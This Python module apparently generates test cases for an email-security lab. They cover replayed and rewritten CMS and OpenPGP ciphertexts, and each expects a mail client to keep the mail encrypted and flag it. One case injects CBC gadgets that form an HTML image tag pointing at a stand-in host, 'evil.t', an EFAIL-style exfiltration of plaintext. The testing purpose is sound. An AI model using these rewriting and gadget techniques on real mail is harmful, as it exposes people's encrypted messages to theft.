"""
Ciphertext that an insider got before, sent once more by another: by whoever caught it, in the hope of a reply that
quotes it ("Re: What's up Johnny?").

What tells that it is the same are the octets that hide its key: all around them can be written otherwise.
"""

from collections.abc import Iterator
from dataclasses import replace

from lab.attacks import cms, der, forms, openpgp, ways
from lab.attacks.gadget import injected
from lab.attacks.mail import Case, Gets, Mail
from lab.attacks.people import DOC, EVE, KIM, OWN, certificate

_KIND = "replayed"


def replayed() -> Iterator[Mail]:
    """Give mail that came before from kim, and now comes from eve: it stays encrypted and is flagged."""
    for way, whom in (
        ("openpgp", DOC),
        ("aes256-gcm", DOC),
        ("aes256-cbc", DOC),
        ("aes256-gcm+keyid", DOC),
        ("openpgp", OWN),
        ("aes256-gcm", OWN),
    ):
        case = Case.of(_KIND, f"same-{way.replace('+', '-')}{'-domain' if whom == OWN else ''}")
        entity = ways.encrypted(way, case.chance, forms.text(case.secret), whom)
        yield _again(case, f"the same octets, by {way} to {whom}", entity, entity)
    yield from _from_others()
    yield from _rewritten_cms()
    yield from _rewritten_openpgp()


def _from_others() -> Iterator[Mail]:
    for name, author in (
        ("neighbour", "From: kit@partner.test"),
        ("kim-for-a-name", f'From: "{KIM}" <{EVE}>'),
        ("an-insider", f"From: {DOC}"),
    ):
        case = Case.of(_KIND, name)
        entity = ways.encrypted("openpgp", case.chance, forms.text(case.secret))
        yield _again(case, f"the same octets, {author}", entity, entity, author)


def _rewritten_cms() -> Iterator[Mail]:
    case, first = _sent("streamed", "aes256-gcm")
    yield _again(case, "written anew in BER", ways.enclosed(first), ways.enclosed(first, stream=True))

    case, first = _sent("more-recipients", "aes256-gcm")
    more = cms.envelope(case.chance, b"x", "aes256-gcm", EVE).infos
    yield _again(
        case,
        "eve added as a recipient",
        ways.enclosed(first),
        ways.enclosed(replace(first, infos=more + first.infos)),
    )

    case, first = _sent("other-name", "aes256-gcm")
    one = certificate(DOC)
    by_key = first.infos[0].replace(der.integer(0), der.integer(2), 1)
    by_key = by_key.replace(cms.issuer_and_serial(one), der.element(0x80, cms.identifier(one)))
    content = by_key[4:]  # the head of the SEQUENCE has four octets, before and after
    renamed = replace(first, infos=(der.sequence(content),))
    yield _again(case, "doc named by key identifier", ways.enclosed(first), ways.enclosed(renamed))

    case = Case.of(_KIND, "gadget")
    first = cms.envelope(case.chance, forms.html(f"<p>{case.secret}</p>" * 3), "aes256-cbc", DOC)
    changed = injected(
        first, b"Content-Type: te", (b'<img ignore="   ', b'" src="//evil.t/'), (b'">              ',)
    )
    yield _again(case, "with CBC gadgets in it", ways.enclosed(first), ways.enclosed(changed))


def _rewritten_openpgp() -> Iterator[Mail]:
    for name, about in (
        ("to-nobody-named", "the key ID of the recipient set to zero"),
        ("old-format", "the packet with the key under a head of the old format"),
        ("more-keys", "eve added as a recipient"),
        ("binary", "in binary and base64"),
    ):
        case = Case.of(_KIND, name)
        first = openpgp.encrypted(case.chance, openpgp.literal(forms.text(case.secret)), DOC)
        content = next(openpgp.packets(first.keys[0]))[1]
        keys = {
            "to-nobody-named": (openpgp.packet(1, content[:1] + bytes(8) + content[9:]),),
            "old-format": (b"\x85" + len(content).to_bytes(2, "big") + content,),
            "more-keys": openpgp.encrypted(case.chance, b"", EVE).keys + first.keys,
        }.get(name, first.keys)
        again = replace(first, keys=keys)
        entity = forms.pgp_encrypted(again.armor())
        if name == "binary":
            kind = 'encrypted; protocol="application/pgp-encrypted"'
            control = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
            entity = forms.parts(kind, control, forms.in_base64("application/octet-stream", again.octets()))
        yield _again(case, about, forms.pgp_encrypted(first.armor()), entity)


def _sent(name: str, cipher: str) -> tuple[Case, cms.Envelope]:
    case = Case.of(_KIND, name)
    return case, cms.envelope(case.chance, forms.text(case.secret), cipher, DOC)


def _again(case: Case, about: str, first: bytes, entity: bytes, author: str = f"From: {EVE}") -> Mail:
    gets = Gets(flags=("replayed",), as_it_came=True, hidden=(case.secret,))
    mail = case.mail(about, case.letter(entity, author), gets)
    return replace(mail, first=case.letter(first, number=".first"))
